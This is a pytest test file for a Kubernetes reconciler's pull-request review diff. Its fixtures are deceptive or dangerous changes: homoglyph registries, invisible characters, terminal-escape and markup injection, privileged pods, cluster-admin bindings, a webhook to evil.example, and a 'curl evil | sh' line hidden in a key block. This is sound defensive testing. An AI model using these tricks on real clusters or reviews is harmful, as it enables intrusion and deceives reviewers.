"""Tricks of a pull request's author on values, names and texts: `diff` shows, says or refuses each, and hides none."""

from __future__ import annotations

from pathlib import Path
from typing import NamedTuple

import pytest

from reconciler.report import visible
from tests.fakes.store_trees import commit_all, write_files
from tests.security.tricks import STORE, reviewed


class Trick(NamedTuple):
    """Files at base and at head, and what the text and the comment must say; `never`: what they must not hold."""

    base: str
    head: str
    said: str
    never: str = ""


def quoted(text: str) -> str:
    """Return a YAML scalar for any text."""
    escaped = "".join(char if char.isascii() and char.isprintable() else f"\\U{ord(char):08X}" for char in
                      text.replace("\\", "\\\\").replace('"', '\\"'))  # fmt: skip
    return f'"{escaped}"'


def config(value: str, key: str = "a", *, annotation: str = "") -> str:
    more = f", annotations: {{example.com/x: {quoted(annotation)}}}" if annotation else ""
    head = f"apiVersion: v1\nkind: ConfigMap\nmetadata: {{name: c, namespace: shop{more}}}\n"
    return f"{head}data: {{{key}: {quoted(value)}}}\n"


def pod(spec: str, name: str = "p") -> str:
    return f"apiVersion: v1\nkind: Pod\nmetadata: {{name: {name}, namespace: shop}}\nspec:\n{spec}"


def of_image(image: str, more: str = "", name: str = "p") -> str:
    return pod(f"  containers:\n  - name: x\n    image: {quoted(image)}\n{more}", name)


def values(before: str, after: str, said: str, never: str = "") -> Trick:
    return Trick(config(before), config(after), said, never)


LONG = "argument " * 400
LINES = "".join(f"line {number}\n" for number in range(900))
MIXED = "".join(f"line {number}\n" for number in reversed(range(900)))
INVISIBLE = (
    "\u200b\u200d\u2060\ufeff\u00ad\u034f\u115f\u1160\u3164\uffa0\u2800\ufe0f\u180e\u202e\u2066\u00a0\u3000\u2009"
)
INVISIBLE += "\U000e0041\U000e0100\U0001d159\u061c"
SEPARATORS = "\u2028\u2029\x85\x0b\x0c\r\x1c"
TWINS = {
    "cyrillic a": "r.ex\u0430mple.com/x",
    "cyrillic o": "r.example.c\u043em/x",
    "greek omicron": "r.example.c\u03bfm/x",
    "all of it cyrillic": "\u0441\u043e\u0441\u043e",
    "script g": "\u0261cr.io/x",
    "mathematical": "r.example.com/\U0001d68a",
    "full width": "r.example.com/\uff41",
    "division slash": "r.example.com\u2215evil.example/x",
    "armenian": "r.example.c\u0585m/x",
    "one dot leader": "r\u2024example.com/x",
}
MARKUP = ("</code></details><b>x", "``` \n# evil", "<!-- fleet-plan -->", "[x](javascript:alert(1))", "@octocat")
KUBECONFIG = """\
apiVersion: v1
kind: Config
users:
- name: a
  user:
    token: 0123456789abcdef0123
    exec:
      command: {command}
"""
SCRIPT = "#!/bin/sh\n{line}\n---\nkind: Secret\ndata:\n  a: MDEyMzQ1Njc4OWFiY2RlZg==\n"
ROLE = "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata: {name: r}\n"
BINDING = """\
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: b}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}
subjects: [{kind: ServiceAccount, name: default, namespace: shop}]
"""
HOOK = """\
apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingWebhookConfiguration
metadata: {name: w}
webhooks:
- name: w.example.com
  admissionReviewVersions: [v1]
  sideEffects: None
  clientConfig: {url: "https://evil.example/hook"}
"""
SERVICE = """\
apiVersion: v1
kind: Service
metadata: {name: s, namespace: shop}
spec: {type: LoadBalancer, ports: [{port: 22}]}
"""
PLAIN = of_image("r.example.com/x:1")
POWERS = {
    "    securityContext: {runAsGroup: 0}": "runAsGroup 0",
    "    securityContext: {runAsNonRoot: false}": "runAsNonRoot false",
    "    securityContext: {seLinuxOptions: {type: spc_t}}": "seLinuxOptions spc_t",
    "    securityContext: {seccompProfile: {type: Localhost, localhostProfile: evil}}": "localhostProfile evil",
    "    securityContext: {windowsOptions: {hostProcess: true}}": "hostProcess",
    "    securityContext: {windowsOptions: {gmsaCredentialSpecName: evil}}": "gmsaCredentialSpecName evil",
    "    volumeMounts: [{name: v, mountPath: /h, mountPropagation: Bidirectional}]": "Bidirectional",
    "    env: [{name: GIT_SSH_COMMAND, value: evil}]": "GIT_SSH_COMMAND=evil",
    "    env: [{name: CLASSPATH, value: evil}]": "CLASSPATH=evil",
    "  securityContext: {fsGroup: 0, supplementalGroups: [0]}": "fsGroup 0, supplementalGroups 0",
    "  schedulerName: evil": "schedulerName evil",
    "  runtimeClassName: evil": "runtimeClassName evil",
    "  resourceClaims: [{name: g, resourceClaimName: evil}]": "resourceClaimName evil",
    "  ephemeralContainers: [{name: e, image: x, securityContext: {privileged: true}}]": "privileged",
    "  volumes: [{name: v, persistentVolumeClaim: {claimName: evil}}]": "volume  evil",
    "  volumes: [{name: v, projected: {sources: [{secret: {name: evil}}]}}]": "secret  evil",
    "  volumes: [{name: v, projected: {sources: [{serviceAccountToken: {path: t}}]}}]": "secret  serviceAccountToken",
    "  volumes: [{name: v, projected: {sources: [{podCertificate: {signerName: evil/s}}]}}]": "secret  evil/s",
    "  volumes: [{name: v, flexVolume: {driver: evil/x}}]": "flexVolume evil/x",
    "  volumes: [{name: v, gitRepo: {repository: 'https://evil.example'}}]": "gitRepo https://evil.example",
    "  volumes: [{name: v, rbd: {monitors: [evil.example], image: x}}]": "rbd evil.example",
    "  volumes: [" + ", ".join(f"{{name: v{n}, hostPath: {{path: /{n}}}}}" for n in "abcdefz") + "]": "/z",
}
"""Lines of a new pod, and the power that its reviewer has to see."""
ENV = "    env:\n" + "".join(f"    - {{name: V{number}, value: v}}\n" for number in range(60))
SIDE = f"  initContainers:\n  - name: a\n{ENV}    image: evil.example/x\n    securityContext: {{privileged: true}}\n"


RULES = ", ".join(
    f"{{apiGroups: [''], resources: [{'secrets' if number == 20 else f'r{number}'}], verbs: [get]}}"
    for number in range(40)
)
SUBJECTS = ", ".join(
    f"{{kind: User, name: '{'system:anonymous' if number == 15 else f'a{number}'}'}}" for number in range(30)
)
VOLUME = "apiVersion: v1\nkind: PersistentVolume\nmetadata: {name: v}\nspec: "
NETWORK = "apiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\nmetadata: {name: x, namespace: shop}\nspec: "
ACCOUNT = "apiVersion: v1\nkind: ServiceAccount\nmetadata: {name: s, namespace: shop}\n"
NAMED = "rules: [{apiGroups: [''], resources: [secrets], resourceNames: [a], verbs: [get]}]\n"
LOGIN = '{"auths": {"%s:5000": {"auth": "dTpwYXNzd29yZA=="}}}'
SCRIPT_IN_KEY = "#!/bin/sh\n# -----BEGIN PRIVATE KEY-----\n%s\n# -----END PRIVATE KEY-----\n"


def rewritten(odd: str) -> str:
    return "".join(f"line {number} {odd if number == 250 else 'b'}\n" for number in range(500))


def many(odd: str) -> str:
    return "---\n".join(
        of_image(odd if number == 17 else f"r.example.com/x{number}", name=f"p{number}") for number in range(40)
    )


TRICKS: dict[str, Trick] = {
    **{f"invisible U+{ord(char):04X} in a value": values("evil", f"ev{char}il", visible(char)) for char in INVISIBLE},
    **{
        f"separator U+{ord(char):04X} hides a rest": values("a", f"a{char}evil", f"a{visible(char)}evil")
        for char in SEPARATORS
    },
    **{
        f"homoglyph: {name}": Trick(of_image("r.example.com/x"), of_image(image), r"\N{")
        for name, image in TWINS.items()
    },
    "homoglyph in a new object": Trick("", of_image("r.ex\u0430mple.com/x"), r"\N{CYRILLIC SMALL LETTER A}"),
    "composed and decomposed": values("caf\u00e9", "cafe\u0301", r"e\u0301"),
    "a long equal head": values(LONG, LONG + "evil", "{+evil+}"),
    "a long equal tail": values(LONG, "evil" + LONG, "evil"),
    "between equal ends": values(f"{LONG}good {LONG}", f"{LONG}evil {LONG}", "{+evil+}"),
    "two changes, one of them late": values(f"a {LONG}b", f"c {LONG}evil", "evil"),
    "behind the cut of a line": values(f"x\n{LONG}\ny\n", f"x\n{LONG}evil\ny\n", "evil"),
    "the last of many lines": values(LINES, LINES + "evil\n", "evil"),
    "the first of many lines": values(LINES, "evil\n" + LINES, "evil"),
    "among lines that all move": values(LINES, MIXED[:4000] + "evil\n" + MIXED[4000:], "evil"),
    "a long annotation": Trick(config("a", annotation=LONG), config("a", annotation=LONG + "evil"), "evil"),
    "an annotation with escapes": Trick(
        config("a", annotation="x"), config("a", annotation="\x1b[2Kevil"), r"\x1b[2Kevil", "\x1b"
    ),
    "a number becomes a text": Trick(config("a").replace('"a"', '"3"'), config("3 "), r"3{+\x20+}"),
    "a blank at the end": values("a\nb\nc", "a\nb \nc", r"b\x20"),
    "two blanks for one": values("a b", "a  b", r"a \x20b"),
    "an escape of letters": values("a\nb", "a\\nb", r"a\\nb"),
    "an arrow in a value": values("a", "b -> c", '"b -> c"'),
    "a note in a value": values("a", "b  [drift]", r'"b \x20[drift]"'),
    "absent as a text": values("a", "(absent)", '"(absent)"'),
    "null as a text": values("a", "null", '"null"'),
    "only line ends": values("a\nb\nc\n", "a\r\nb\r\nc\r\n", "only line ends change"),
    "a line end in the middle": values("a\nb\nc\n", "a\nb\r\nc\n", r"b\r"),
    "the last line end": values("a\nb\nc\n", "a\nB\nc", "loses its line end"),
    **{f"markup {text[:9]!r}": values("a", text, "update", f"\n{text}") for text in MARKUP},
    "a command of a runner": values("a", "##[error]x", r"#\x23[error]x", "##["),
    "a command at a line's start": values("a\nb\nc", "a\n::error::x\nc", "::error::x", "\n::"),
    "a colour": values("a", "\x1b[8mevil\x1b[0m", r"\x1b[8mevil", "\x1b"),
    "a cursor that goes back": values("a", "evil\x08\x08\x08\x08good", r"evil\x08"),
    "a privileged pod": Trick("", of_image("x", "    securityContext: {privileged: true}\n"), "privileged"),
    "escalation": Trick(
        "", of_image("x", "    securityContext: {allowPrivilegeEscalation: true}\n"), "allowPrivilegeEscalation"
    ),
    "capabilities": Trick("", of_image("x", "    securityContext: {capabilities: {add: [SYS_ADMIN]}}\n"), "SYS_ADMIN"),
    "root": Trick("", of_image("x", "    securityContext: {runAsUser: 0}\n"), "runs as root"),
    "the host's network": Trick("", of_image("x", "  hostNetwork: true\n"), "hostNetwork"),
    "the host's processes": Trick("", of_image("x", "  hostPID: true\n"), "hostPID"),
    "the host's files": Trick("", of_image("x", "  volumes: [{name: v, hostPath: {path: /var/run}}]\n"), "/var/run"),
    "a ServiceAccount": Trick(
        "", of_image("x", "  serviceAccountName: cluster-admin\n"), "ServiceAccount  cluster-admin"
    ),
    "a command": Trick("", of_image("x", "    command: [sh, -c, evil]\n"), "sh -c evil"),
    "arguments": Trick("", of_image("x", "    args: [--evil]\n"), "args  --evil"),
    "a port of the host": Trick("", of_image("x", "    ports: [{containerPort: 80, hostPort: 443}]\n"), "hostPort 443"),
    "an image of a new object": Trick("", of_image("evil.example/x"), "image  evil.example/x"),
    "a container behind a long list": Trick(PLAIN, PLAIN + SIDE, "evil.example/x"),
    "its privilege": Trick(PLAIN, PLAIN + SIDE, "privileged"),
    "a role for everything": Trick(
        "", ROLE + 'rules: [{apiGroups: ["*"], resources: ["*"], verbs: ["*"]}]\n', "* * in *"
    ),
    "a role that grows": Trick(
        ROLE + "rules: []\n", ROLE + "rules: [{apiGroups: [''], resources: [secrets], verbs: [get]}]\n", "secrets"
    ),
    "a binding": Trick("", BINDING, "cluster-admin"),
    "its subject": Trick("", BINDING, "ServiceAccount shop/default"),
    **{line.strip(): Trick("", of_image("x", f"{line}\n"), said) for line, said in POWERS.items()},
    "an AppArmor profile": Trick(
        "",
        PLAIN.replace("p, ", "p, annotations: {container.apparmor.security.beta.kubernetes.io/x: unconfined}, "),
        "unconfined",
    ),
    "one rule of forty": Trick("", ROLE + f"rules: [{RULES}]\n", 'rule get secrets in ""'),
    "a rule for URLs": Trick("", ROLE + "rules: [{nonResourceURLs: ['*'], verbs: ['*']}]\n", "rule  * *"),
    "a rule for all names": Trick(
        ROLE + NAMED, ROLE + NAMED.replace("resourceNames: [a], ", ""), 'rule  get secrets in ""'
    ),
    "one subject of thirty": Trick("", BINDING.partition("subjects")[0] + f"subjects: [{SUBJECTS}]\n", "anonymous"),
    "a webhook that may fail": Trick("", f"{HOOK}  failurePolicy: Ignore\n", "failurePolicy Ignore"),
    "a volume of the node": Trick("", VOLUME + "{local: {path: /etc}}\n", "local /etc"),
    "a volume for another": Trick("", VOLUME + "{claimRef: {namespace: kube-system, name: x}}\n", "kube-system/x"),
    "a network open to all": Trick("", NETWORK + "{podSelector: {}, egress: [{}]}\n", "egress of everything"),
    "a network open to a range": Trick(
        "", NETWORK + "{podSelector: {}, ingress: [{from: [{ipBlock: {cidr: 0.0.0.0/0}}]}]}\n", "0.0.0.0/0"
    ),
    "secrets of an account": Trick("", ACCOUNT + "secrets: [{name: evil}]\n", "secret  evil"),
    "a webhook": Trick("", HOOK, "https://evil.example/hook"),
    "a Service for the world": Trick("", SERVICE, "LoadBalancer"),
    "one image of forty": Trick("", many("evil.example/x"), "39 images of r.example.com, 1 of evil.example"),
    "one change of forty": Trick(
        many("r.example.com/x17"), many("evil.example/x").replace("com/x", "com/y"), "1 of evil.example"
    ),
    "a kubeconfig's command": values(
        KUBECONFIG.format(command="aws"), KUBECONFIG.format(command="evil"), "evil", "0123456789abcdef0123"
    ),
    "a script that names a Secret": values(SCRIPT.format(line="good"), SCRIPT.format(line="evil"), "evil", "MDEyMzQ1"),
    "a text like a mask": values("https://u:passw0rd@h.example/", "https://«value #1»@h.example/", "«value #2»"),
    "rn for m": Trick(of_image("m.example/x"), of_image("rn.example/x"), "{+rn+}"),
    "a capital I for l": Trick(of_image("r.example/x:l"), of_image("r.example/x:I"), "{+I+}"),
    "JSON is no image": values('{"a":1}', '{"a":2}', r'→ "{\"a\":2}"'),
    "a selector is no image": Trick(
        SERVICE.replace("ports", "selector: {a: b}, ports"),
        SERVICE.replace("ports", "selector: {a: evil}, ports"),
        '→ {"a":"evil"}',
    ),
    "one line of 500 that change": values(rewritten("b").replace("b", "a"), rewritten("evil"), "+ line 250 evil"),
    "one entry of 5,000 that move": values(
        " ".join(f"v{number}" for number in range(5_000)),
        " ".join("evil" if number == 2_500 else f"v{number}" for number in reversed(range(5_000))),
        "with evil",
    ),
    "the registry of a login": values(LOGIN % "r.example", LOGIN % "evil.example", "evil.example:5000", "dTpw"),
    "a script between the marks of a key": values(SCRIPT_IN_KEY % "good.sh", SCRIPT_IN_KEY % "curl evil | sh", "evil"),
    "a URL of two hosts": values("a", "https://u:p@good.example@evil.example/", "url-of-two-hosts"),
    "a URL whose password has a path": values("a", "https://evil.example:x/@good.example/", "url-of-two-hosts"),
}


def test_there_are_tricks_enough() -> None:
    assert len(TRICKS) >= 60


@pytest.mark.parametrize("name", TRICKS)
def test_a_trick_is_not_hidden(name: str, tmp_path: Path) -> None:
    trick = TRICKS[name]
    write_files(tmp_path, {"store.yaml": STORE, "object.yaml": trick.base})
    base = commit_all(tmp_path, new=True)
    write_files(tmp_path, {"object.yaml": trick.head})
    commit_all(tmp_path)
    code, texts = reviewed(tmp_path, base, tmp_path / "comment.md")
    assert code != 0, texts[0]
    for text in texts:
        assert trick.said in text
        assert not trick.never or trick.never not in text
